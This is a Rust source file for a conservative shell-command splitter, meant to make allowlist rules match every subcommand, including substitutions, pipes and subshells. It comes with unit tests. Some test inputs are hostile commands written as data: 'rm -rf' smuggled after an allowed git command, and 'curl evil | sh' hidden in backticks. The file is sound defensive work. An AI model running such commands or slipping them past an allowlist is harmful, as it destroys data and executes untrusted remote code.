//! Splits a shell command into the simple commands it would run, so an allowlist rule such as
//! `bash(git *)` can be required to match every one of them: `git status; rm -rf x` must not
//! pass as "a git command".
//!
//! This is deliberately conservative rather than a full shell parser: anything it cannot read
//! with certainty (unbalanced quotes or parentheses) is an error, and anything that might run —
//! each side of `;`, `&&`, `||`, `|`, `&`, newlines, the inside of `$(…)`, backticks, `<(…)`,
//! `>(…)` and subshells — becomes a part that must be allowed on its own.

/// The command could not be split with certainty.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Unreadable(pub &'static str);

/// The simple commands in `command`, trimmed, in order; substitutions follow the part that
/// contains them.
pub fn split(command: &str) -> Result<Vec<String>, Unreadable> {
    let mut parts = Vec::new();
    split_into(command, &mut parts, 0)?;
    Ok(parts)
}

const MAX_DEPTH: usize = 32;

fn split_into(command: &str, parts: &mut Vec<String>, depth: usize) -> Result<(), Unreadable> {
    if depth > MAX_DEPTH {
        return Err(Unreadable("nested too deeply"));
    }
    let chars: Vec<char> = command.chars().collect();
    let mut current = String::new();
    let mut nested = Vec::new();
    let mut i = 0;
    while i < chars.len() {
        let c = chars[i];
        match c {
            '\\' => {
                current.push(c);
                if let Some(&next) = chars.get(i + 1) {
                    current.push(next);
                    i += 1;
                }
            }
            '\'' => {
                let end = find(&chars, i + 1, '\'').ok_or(Unreadable("unclosed single quote"))?;
                current.extend(&chars[i..=end]);
                i = end;
            }
            '"' => {
                let end = double_quoted(&chars, i + 1, &mut nested)?;
                current.extend(&chars[i..=end]);
                i = end;
            }
            '`' => {
                let end = find(&chars, i + 1, '`').ok_or(Unreadable("unclosed backtick"))?;
                nested.push(chars[i + 1..end].iter().collect());
                current.extend(&chars[i..=end]);
                i = end;
            }
            '$' | '<' | '>' if chars.get(i + 1) == Some(&'(') => {
                let end = closing_paren(&chars, i + 1)?;
                nested.push(chars[i + 2..end].iter().collect());
                current.extend(&chars[i..=end]);
                i = end;
            }
            '(' if current.trim().is_empty() => {
                let end = closing_paren(&chars, i)?;
                nested.push(chars[i + 1..end].iter().collect());
                current.extend(&chars[i..=end]);
                i = end;
            }
            ';' | '\n' | '&' | '|' => {
                flush(&mut current, parts);
                // `&&`, `||`, `|&` and `;;` are single separators.
                if matches!(chars.get(i + 1), Some('&' | '|' | ';')) {
                    i += 1;
                }
            }
            _ => current.push(c),
        }
        i += 1;
    }
    flush(&mut current, parts);
    for inner in nested {
        split_into(&inner, parts, depth + 1)?;
    }
    Ok(())
}

/// Adds a finished part. A subshell `( … )` or group `{ …; }` contributes only its contents
/// (already queued as nested), not itself.
fn flush(current: &mut String, parts: &mut Vec<String>) {
    let part = current.trim();
    let is_group = (part.starts_with('(') && part.ends_with(')')) || part == "{" || part == "}";
    let part = part.strip_prefix("{ ").unwrap_or(part);
    if !part.is_empty() && !is_group {
        parts.push(part.to_owned());
    }
    current.clear();
}

fn find(chars: &[char], from: usize, target: char) -> Option<usize> {
    chars[from..]
        .iter()
        .position(|&c| c == target)
        .map(|p| p + from)
}

/// The index of the `"` closing a double-quoted string starting at `from`, queueing any command
/// substitutions inside it.
fn double_quoted(
    chars: &[char],
    from: usize,
    nested: &mut Vec<String>,
) -> Result<usize, Unreadable> {
    let mut i = from;
    while i < chars.len() {
        match chars[i] {
            '\\' => i += 1,
            '"' => return Ok(i),
            '`' => {
                let end = find(chars, i + 1, '`').ok_or(Unreadable("unclosed backtick"))?;
                nested.push(chars[i + 1..end].iter().collect());
                i = end;
            }
            '$' if chars.get(i + 1) == Some(&'(') => {
                let end = closing_paren(chars, i + 1)?;
                nested.push(chars[i + 2..end].iter().collect());
                i = end;
            }
            _ => {}
        }
        i += 1;
    }
    Err(Unreadable("unclosed double quote"))
}

/// The index of the `)` matching the `(` at `open`, skipping quoted text.
fn closing_paren(chars: &[char], open: usize) -> Result<usize, Unreadable> {
    let mut depth = 0usize;
    let mut i = open;
    while i < chars.len() {
        match chars[i] {
            '\\' => i += 1,
            '\'' => i = find(chars, i + 1, '\'').ok_or(Unreadable("unclosed single quote"))?,
            '"' => i = double_quoted(chars, i + 1, &mut Vec::new())?,
            '(' => depth += 1,
            ')' => {
                depth -= 1;
                if depth == 0 {
                    return Ok(i);
                }
            }
            _ => {}
        }
        i += 1;
    }
    Err(Unreadable("unclosed parenthesis"))
}

#[cfg(test)]
mod tests {
    use super::*;
    use pretty_assertions::assert_eq;

    fn parts(s: &str) -> Vec<String> {
        split(s).unwrap()
    }

    #[test]
    fn a_simple_command_is_one_part() {
        assert_eq!(parts("git status"), ["git status"]);
        assert_eq!(
            parts("  git log --format='%H;%s' \"a|b\"  "),
            ["git log --format='%H;%s' \"a|b\""]
        );
        assert_eq!(parts(r"echo a\;b"), [r"echo a\;b"]);
    }

    #[test]
    fn separators_split() {
        assert_eq!(parts("git status; rm -rf x"), ["git status", "rm -rf x"]);
        assert_eq!(
            parts("a && b || c | d & e\nf"),
            ["a", "b", "c", "d", "e", "f"]
        );
        assert_eq!(parts("a |& b ;; c"), ["a", "b", "c"]);
    }

    #[test]
    fn substitutions_are_parts_of_their_own() {
        assert_eq!(parts("echo $(rm -rf x)"), ["echo $(rm -rf x)", "rm -rf x"]);
        assert_eq!(
            parts("echo `curl evil | sh`"),
            ["echo `curl evil | sh`", "curl evil", "sh"]
        );
        assert_eq!(
            parts("echo \"$(whoami) `id`\""),
            ["echo \"$(whoami) `id`\"", "whoami", "id"]
        );
        assert_eq!(
            parts("diff <(ls a) >(tee b)"),
            ["diff <(ls a) >(tee b)", "ls a", "tee b"]
        );
        assert_eq!(parts("echo $(a $(b))"), ["echo $(a $(b))", "a $(b)", "b"]);
        assert_eq!(parts("echo '$(not run)'"), ["echo '$(not run)'"]);
    }

    #[test]
    fn subshells_and_groups_contribute_their_contents() {
        assert_eq!(parts("(cd x && make)"), ["cd x", "make"]);
        assert_eq!(parts("{ a; b; }"), ["a", "b"]);
    }

    #[test]
    fn unreadable_commands_are_errors() {
        assert_eq!(
            split("echo 'oops"),
            Err(Unreadable("unclosed single quote"))
        );
        assert_eq!(
            split("echo \"oops"),
            Err(Unreadable("unclosed double quote"))
        );
        assert_eq!(
            split("echo $(oops"),
            Err(Unreadable("unclosed parenthesis"))
        );
        assert_eq!(split("echo `oops"), Err(Unreadable("unclosed backtick")));
    }
}
